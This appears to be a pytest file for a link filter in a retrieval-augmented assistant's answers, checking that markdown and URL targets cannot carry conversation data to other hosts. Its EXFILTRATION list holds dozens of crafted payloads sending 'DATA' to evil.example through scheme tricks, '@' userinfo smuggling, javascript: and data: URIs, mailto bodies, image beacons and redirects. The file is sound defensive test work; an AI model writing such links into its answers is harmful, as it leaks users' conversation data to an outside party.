"""The answer's link filter reads link targets the way a browser resolves them."""

import pytest

from rag.link_filter import REMOVED, filter_urls, resolve, urls_in

DOCS = "http://127.0.0.1:8103"
ALLOWED = [DOCS, "https://jestjs.io/docs/cli#bail"]
EXACT = ["https://github.com/jestjs/jest/issues/1"]

# Each carries "DATA" (conversation data) to evil.example, as the attack did.
EXFILTRATION = [
    "[source](//evil.example/c?d=DATA)",
    r"[x](http:\\evil.example\c?d=DATA)",
    r"[x](\\evil.example/c?d=DATA)",
    r"[x](/\evil.example/c?d=DATA)",
    r"[x](\/evil.example/c?d=DATA)",
    "[x](https:/evil.example/c?d=DATA)",
    "[x](https:evil.example/c?d=DATA)",
    "[x](///evil.example/c?d=DATA)",
    "http://127.0.0.1:8103'@evil.example/c?d=DATA",
    "[[1]](http://127.0.0.1:8103\"@evil.example/c?d=DATA)",
    "[x](http://127.0.0.1:8103(@evil.example/c?d=DATA))",
    "https://jestjs.io/docs/cli'@evil.example/?d=DATA",
    "[mail](mailto:a@evil.example?body=DATA)",
    "<mailto:a@evil.example?body=DATA>",
    "[x](javascript:fetch('//evil.example/?d=DATA'))",
    "[x](<java\tscript:alert('DATA')>)",
    "[x](&#x2F;&#x2F;evil.example/?d=DATA)",
    "![pixel](https://evil.example/p.png?d=DATA)",
    "![pixel](<//evil.example/p.png?d=DATA x>)",
    "[x](< //evil.example/c?d=DATA>)",
    "<https://evil.example/?d=DATA>",
    "see https://evil.example/?d=DATA.",
    "seehttps://evil.example/?d=DATA",
    "HTTPS://EVIL.EXAMPLE/?d=DATA",
    "www.evil.example/?d=DATA",
    '<img src="https://evil.example/?d=DATA">',
    "[x](https://evil.example%2F@127.0.0.1:8103/?d=DATA)",
    "https://github.com/jestjs/jest/issues/1'DATA",
    "https://github.com/jestjs/jest/issues/1?d=DATA",
    f"{DOCS}/redirect?to=https://evil.example/?d=DATA",
    "[ok](http://127.0.0.1:8103/docs)[bad](//evil.example/?d=DATA)",
    "[ref]: //evil.example/?d=DATA",
    "[x](data:text/html,DATA)",
    "[x](http://127.0.0.1:8103.evil.example/?d=DATA)",
]


@pytest.mark.parametrize("text", EXFILTRATION)
def test_no_link_target_carries_data_to_another_host(text):
    out = filter_urls(text, ALLOWED, EXACT)
    assert "evil" not in out.lower() or "DATA" not in out
    assert REMOVED in out


@pytest.mark.parametrize("text", [
    f"See [the CLI]({DOCS}/docs/cli) and {DOCS}/docs/intro.",
    "Use `--bail` [1], see https://jestjs.io/docs/cli#bail.",
    "[Bail](https://jestjs.io/docs/cli#bail) is documented.",
    "See [issue](https://github.com/jestjs/jest/issues/1) (https://github.com/jestjs/jest/issues/1).",
    "Truncated: https://github.com/jestjs/jest/issues",
    "[intro](/docs/intro), [cli](docs/cli#bail), [top](#top)",
    "[default port](http://127.0.0.1:8103/docs), [scheme-relative](//127.0.0.1:8103/docs)",
    "Prose with a colon: note: this, e.g. key=value and a // comment.",
    "Set `src=\"./setup.js\"` in the config.",
])
def test_links_to_the_docs_and_quoted_urls_stay(text):
    assert filter_urls(text, ALLOWED, EXACT) == text


def test_only_the_bad_target_is_replaced():
    text = f"Read [this]({DOCS}/docs/a) then [that](//evil.example/?q=secret) now."
    out = filter_urls(text, ALLOWED, EXACT)
    assert out == f"Read [this]({DOCS}/docs/a) then [that]({REMOVED}) now."


@pytest.mark.parametrize("target,expected", [
    ("//evil.example/x", ("*", "evil.example", "/x")),
    (r"\\evil.example\x", ("*", "evil.example", "/x")),
    (r"/\evil.example/x", ("*", "evil.example", "/x")),
    ("https:/evil.example/x", ("https", "evil.example", "/x")),
    ("HTTP://Docs.Example:80/x", ("http", "docs.example", "/x")),
    ("http://docs.example'@evil.example/", None),
    ("mailto:a@b.example", None),
    ("/docs/intro", "relative"),
    ("?q=1", "relative"),
])
def test_targets_resolve_like_a_browser(target, expected):
    assert resolve(target) == expected


def test_urls_quoted_in_docs_are_collected_without_trailing_punctuation():
    assert urls_in("See https://a.example/x, and (https://b.example/y).") == [
        "https://a.example/x", "https://b.example/y"]
